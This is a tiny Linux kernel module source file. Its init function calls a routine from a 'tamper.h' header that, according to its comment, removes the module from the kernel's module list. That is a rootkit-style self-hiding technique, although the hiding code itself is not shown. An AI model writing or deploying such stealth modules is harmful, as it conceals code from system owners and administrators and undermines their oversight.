/* Takes itself off the list of modules. */
#include "tamper.h"

static int __init begin(void)
{
    off_the_list();
    return 0;
}
module_init(begin);
